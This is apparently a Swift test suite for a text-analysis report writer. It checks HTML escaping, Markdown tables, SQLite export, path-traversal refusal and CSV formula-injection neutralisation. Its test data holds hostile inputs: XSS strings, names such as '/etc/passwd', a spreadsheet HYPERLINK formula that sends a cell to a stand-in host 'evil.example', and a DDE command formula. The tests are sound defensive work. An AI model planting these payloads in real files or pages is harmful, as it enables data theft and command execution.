import Foundation
import Testing
@testable import WaveReports
import WaveLexicon
import WaveCorpus
import WaveIngest
import WaveText

/// Corpus analyses of small articles, made by the shipped analyzer.
enum ReportFixture {
    static let analyzer = Result {
        Analyzer(stopwords: Stopwords(), dictionary: try ThemeDictionary.shipped(), lexicon: try SentimentLexicon.shipped(),
                 gazetteer: try Gazetteer.shipped())
    }

    static func article(_ id: String, title: String, date: String? = "2023-05-01",
                        text: String = "Japan looks back with nostalgia at its classic anime heritage.") -> Article {
        Article(id: id, path: id, title: title, authors: ["A, B"], date: date, site: "Site", format: .html,
                encoding: "UTF-8", paragraphs: [text])
    }

    static func analysis(_ articles: [Article]) throws -> CorpusAnalysis {
        let analyzer = try analyzer.get()
        return CorpusAnalysis(documents: articles.map(analyzer.analyze), targets: Targets(analyzer.mentions.gazetteer),
                              themes: ThemeInfo.of(analyzer.themes.dictionary))
    }

    static func summary(failures: [FailureRecord] = []) -> RunSummary {
        var summary = RunSummary(version: "t", corpus: "c", output: "o", startedAt: "2026-01-01T00:00:00Z",
                                 seconds: 1, japaneseSegmenter: "icu")
        summary.failures = failures
        return summary
    }
}

@Suite struct ReportWriterTests {
    func temp() -> URL { FileManager.default.temporaryDirectory.appendingPathComponent("wl-report-\(UUID().uuidString)") }

    @Test func csvQuotesWhatNeedsQuoting() {
        #expect(CSVTable.quote("plain") == "plain")
        #expect(CSVTable.quote("a,b") == "\"a,b\"")
        #expect(CSVTable.quote("say \"hi\"") == "\"say \"\"hi\"\"\"")
        #expect(CSVTable.quote("two\nlines") == "\"two\nlines\"")
        #expect(CSVTable.quote(" edge") == "\" edge\"")
        #expect(CSVTable.number(-0.00001) == "0.0000")
        #expect(CSVTable.number(.nan) == "")
    }

    @Test func htmlReportEscapesArticleText() throws {
        let hostile = ReportFixture.article("a", title: "<img src=x onerror=alert(1)> & \"quotes\"",
                                            text: "Japan's nostalgia for classic anime <script>alert(1)</script> endures.")
        let model = ReportModel(analysis: try ReportFixture.analysis([hostile]), summary: ReportFixture.summary(
            failures: [FailureRecord(path: "<evil>.html", stage: "ingest", code: "binary", reason: "<b>")]))
        let html = HTMLRenderer(model: model).render()
        #expect(!html.contains("<img src=x"))
        #expect(html.contains("&lt;img src=x onerror=alert(1)&gt; &amp; &quot;quotes&quot;"))
        #expect(!html.contains("<script>alert"))
        #expect(html.contains("&lt;evil&gt;.html"))
        #expect(!html.contains("<b>"))
    }

    @Test func markdownReportKeepsTablesIntact() throws {
        let analysis = try ReportFixture.analysis([ReportFixture.article("a", title: "pipe | in title\nand newline")])
        let md = MarkdownRenderer(model: ReportModel(analysis: analysis, summary: ReportFixture.summary())).render()
        #expect(md.contains("pipe \\| in title and newline"))
        #expect(!md.contains("<script>"))
        #expect(md.hasSuffix("\n") && !md.hasSuffix("\n\n"))
    }

    @Test func bothRenderersShowTheSameSections() throws {
        let analysis = try ReportFixture.analysis([ReportFixture.article("a", title: "One")])
        let model = ReportModel(analysis: analysis, summary: ReportFixture.summary())
        let html = HTMLRenderer(model: model).render(), md = MarkdownRenderer(model: model).render()
        for section in model.sections {
            let id = section.anchor.map { " id=\"\($0)\"" } ?? ""
            #expect(html.contains("<h2\(id)>\(HTML.escape(section.title))</h2>"), "\(section.title)")
            #expect(md.contains("## \(MarkdownText.cell(section.title))\n"), "\(section.title)")
        }
        #expect(model.sections.map(\.title).contains("Keyness: japan vs korea (focus)"))
    }

    @Test func writesEveryFileAtomicallyInsideTheFolder() throws {
        let folder = temp()
        let analysis = try ReportFixture.analysis([ReportFixture.article("a", title: "One"),
                                                   ReportFixture.article("b", title: "Two, with comma", date: nil)])
        let names = try ReportWriter(folder: folder).write(analysis, summary: ReportFixture.summary())
        #expect(names == ReportWriter.outputs(analysis))
        let contents = try FileManager.default.contentsOfDirectory(atPath: folder.path).sorted()
        #expect(contents == names.sorted())
        let csv = try String(contentsOf: folder.appendingPathComponent("documents.csv"), encoding: .utf8)
        #expect(csv.split(separator: "\n").count == 3)
        #expect(csv.contains("\"Two, with comma\""))
        #expect(csv.contains("\"A, B\""))
        let summary = try JSONSerialization.jsonObject(with: Data(contentsOf: folder.appendingPathComponent("summary.json"))) as? [String: Any]
        #expect((summary?["outputs"] as? [String])?.contains("report.html") == true)
    }

    @Test func refusesNamesThatLeaveTheFolder() {
        let writer = ReportWriter(folder: temp())
        for name in ["../escape.csv", "/etc/passwd", "a/b.csv", "..", ".", ""] {
            #expect(throws: (any Error).self, "\(name)") { try writer.put(name, "x") }
        }
    }

    @Test func unwritableFolderThrows() throws {
        let writer = ReportWriter(folder: URL(fileURLWithPath: "/proc/wavelength-cannot-write"))
        let analysis = try ReportFixture.analysis([])
        #expect(throws: (any Error).self) { try writer.write(analysis, summary: ReportFixture.summary()) }
    }
}

import GRDB

@Suite struct SQLiteTablesTests {
    /// A two-table run: `parent` documents and `child` rows that point at them.
    static func keyedTables(childDocuments: [String]) -> [RunTable] {
        let parent = TableSchema(name: "parent", file: "parent.csv", description: "Documents.",
                                 fields: [Field("id", .string, "Id.", required: true), Field("when", .datetime, "Time.")],
                                 primaryKey: ["id"])
        let child = TableSchema(name: "child", file: "child.csv", description: "Rows of documents.",
                                fields: [Field("document_id", .string, "The document.", required: true),
                                         Field("position", .integer, "Position.", required: true),
                                         Field("text", .string, "Text."), Field("flag", .boolean, "Flag."),
                                         Field("score", .number, "Score.")],
                                primaryKey: ["document_id", "position"],
                                foreignKeys: [ForeignKey(["document_id"], references: "parent", ["id"])])
        return [RunTable(parent, rows: [["a", "2023-05-01T08:00:00+09:00"], ["b", ""]]),
                RunTable(child, rows: childDocuments.enumerated().map { i, d in
                    [d, String(i), i == 0 ? "" : "텍스트 \(i), \"quoted\"", i % 2 == 0 ? "true" : "false", "0.25"]
                })]
    }

    @Test func rowsAreStoredCellByCellAndKeysCheckedAfterTheInserts() throws {
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("wl-sqlite-keys-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: folder) }
        let good = folder.appendingPathComponent("good.sqlite")
        try SQLiteTables.write(Self.keyedTables(childDocuments: ["a", "a", "b"]), to: good)
        let db = try DatabaseQueue(path: good.path)
        try db.read { db in
            let rows = try Row.fetchAll(db, sql: "SELECT document_id, position, text, flag, score FROM child ORDER BY document_id, position")
            #expect(rows.map { $0[0] as String } == ["a", "a", "b"])
            #expect(rows.map { $0[2] as String? } == [nil, "텍스트 1, \"quoted\"", "텍스트 2, \"quoted\""])
            #expect(rows.map { $0[3] as Int } == [1, 0, 1])
            #expect(rows.map { $0[4] as Double } == [0.25, 0.25, 0.25])
            #expect(try String.fetchOne(db, sql: "SELECT \"when\" FROM parent WHERE id = 'a'") == "2023-04-30 23:00:00")
            #expect(try Bool.fetchOne(db, sql: "SELECT \"when\" IS NULL FROM parent WHERE id = 'b'") == true)
        }
        try db.close()
        // A row pointing at no document: the write fails, and leaves no database behind.
        let bad = folder.appendingPathComponent("bad.sqlite")
        #expect(throws: (any Error).self) { try SQLiteTables.write(Self.keyedTables(childDocuments: ["a", "missing"]), to: bad) }
        #expect(!FileManager.default.fileExists(atPath: bad.path))
        #expect(try FileManager.default.contentsOfDirectory(atPath: folder.path).filter { $0.hasPrefix(".bad") }.isEmpty)
    }

    @Test func databaseHoldsEveryTableWithKeysAndVersion() throws {
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("wl-sqlite-\(UUID().uuidString)")
        let analysis = try ReportFixture.analysis([ReportFixture.article("a", title: "O'Brien; \"x\"", date: "2023-05-01T08:00:00+09:00"),
                                                   ReportFixture.article("b", title: "B"),
                                                   ReportFixture.article("c", title: "C", text: "The weather was mild in the city today.")])
        try ReportWriter(folder: folder).write(analysis, summary: ReportFixture.summary(
            failures: [FailureRecord(path: "bad.html", stage: "ingest", code: "binary", reason: "NUL bytes")]))
        let db = try DatabaseQueue(path: folder.appendingPathComponent("wavelength.sqlite").path)
        let b = try #require(analysis.documents.dropLast().last)
        let term = try #require(analysis.terms.first)
        try db.read { db in
            let names = try String.fetchAll(db, sql: "SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name")
            #expect(Set(names) == Set(RunSchema.tables(RunTables.columns(analysis), topics: false).map(\.name)))
            #expect(try Int.fetchOne(db, sql: "PRAGMA user_version") == RunSchema.userVersion)
            #expect(try Row.fetchAll(db, sql: "PRAGMA foreign_key_check").isEmpty)
            #expect(try Int.fetchOne(db, sql: "SELECT count(*) FROM documents") == 3)
            #expect(try String.fetchOne(db, sql: "SELECT title FROM documents WHERE id = 'a'") == "O'Brien; \"x\"")
            #expect(try Bool.fetchOne(db, sql: "SELECT sentiment_korea IS NULL FROM documents WHERE id = 'a'") == true)
            #expect(try Bool.fetchOne(db, sql: "SELECT sentiment_japan IS NULL FROM documents WHERE id = 'a'") == false)
            #expect(try Int.fetchOne(db, sql: "SELECT nostalgia FROM documents WHERE id = 'b'") == b.themeHits("nostalgia"))
            #expect(b.themeHits("nostalgia") > 0)
            // Typed dates: the UTC instant (08:00 JST is 23:00 the day before) and the outlet's own date.
            #expect(try String.fetchOne(db, sql: "SELECT published_utc FROM documents WHERE id = 'a'") == "2023-04-30 23:00:00")
            #expect(try String.fetchOne(db, sql: "SELECT published_date FROM documents WHERE id = 'a'") == "2023-05-01")
            #expect(try String.fetchOne(db, sql: "SELECT published_utc FROM documents WHERE id = 'b'") == nil)
            #expect(try String.fetchOne(db, sql: "SELECT typeof(framing_index) FROM documents WHERE id = 'c'") == "null")
            #expect(try String.fetchOne(db, sql: "SELECT typeof(framing_index) FROM documents WHERE id = 'a'") == "real")
            #expect(try String.fetchOne(db, sql: "SELECT reason FROM failures") == "NUL bytes")
            #expect(try Int.fetchOne(db, sql: "SELECT count FROM terms WHERE term = ? AND language = ?",
                                     arguments: [term.term, term.group]) == term.count)
            // Declared types, keys and join indexes.
            let columns = try Row.fetchAll(db, sql: "PRAGMA table_info(documents)")
            #expect(columns.first { $0["name"] == "published_date" }?["type"] == "DATE")
            #expect(columns.first { $0["name"] == "id" }?["pk"] == 1)
            let indexes = try String.fetchAll(db, sql: "SELECT name FROM sqlite_master WHERE type = 'index' AND tbl_name = 'duplicates'")
            #expect(indexes.contains("duplicates_representative_id"))
            #expect(try Int.fetchOne(db, sql: "SELECT count(*) FROM tokens WHERE document_id = 'a'") ?? 0 > 5)
        }
    }
}

/// CSV formula injection: spreadsheet-safe CSV by default, exact text everywhere else.
@Suite struct SpreadsheetSafetyTests {
    static let hostile = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "=cmd|' /C calc'!A0",
                          "+SUM(1,2)", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"]

    @Test func cellsThatWouldRunAreNeutralisedAndNumbersAreNot() {
        for cell in Self.hostile { #expect(CSVTable.neutralized(cell) == "'" + cell) }
        // Numeric cells are never neutralised, the term tables' infinities included; text that merely
        // starts like one still is.
        for cell in ["-0.2500", "+3", "-1e-05", "1.5", "plain", "", "a=b", "-", "-inf", "+inf", "-nan", "-info", "-inf()"] {
            let text = cell == "-" || cell == "-info" || cell == "-inf()"
            #expect(CSVTable.neutralized(cell) == (text ? "'" + cell : cell), "\(cell)")
        }
        var table = CSVTable(header: ["title", "score"])
        table.append(["=1+1", "-0.5"])
        #expect(table.text == "title,score\n'=1+1,-0.5\n")
        #expect(table.render(.raw) == "title,score\n=1+1,-0.5\n")
    }

    @Test func runTablesAreSafeAndJSONLinesAndSQLiteKeepTheExactText() throws {
        let title = Self.hostile[1]
        let analysis = try ReportFixture.analysis([ReportFixture.article("a", title: title)])
        let safe = FileManager.default.temporaryDirectory.appendingPathComponent("wl-csv-\(UUID().uuidString)")
        try ReportWriter(folder: safe).write(analysis, summary: ReportFixture.summary())
        let csv = try String(contentsOf: safe.appendingPathComponent("documents.csv"), encoding: .utf8)
        #expect(csv.contains(",'=cmd|' /C calc'!A0,"))
        #expect(!csv.contains(",=cmd"))
        let jsonl = try String(contentsOf: safe.appendingPathComponent("documents.jsonl"), encoding: .utf8)
        #expect(jsonl.contains("\"title\":\"=cmd|' /C calc'!A0\""))
        let db = try DatabaseQueue(path: safe.appendingPathComponent("wavelength.sqlite").path)
        #expect(try db.read { try String.fetchOne($0, sql: "SELECT title FROM documents") } == title)

        let raw = FileManager.default.temporaryDirectory.appendingPathComponent("wl-csv-\(UUID().uuidString)")
        try ReportWriter(folder: raw, cells: .raw).write(analysis, summary: ReportFixture.summary())
        let rawCSV = try String(contentsOf: raw.appendingPathComponent("documents.csv"), encoding: .utf8)
        #expect(rawCSV.contains(",=cmd|' /C calc'!A0,"))
    }
}
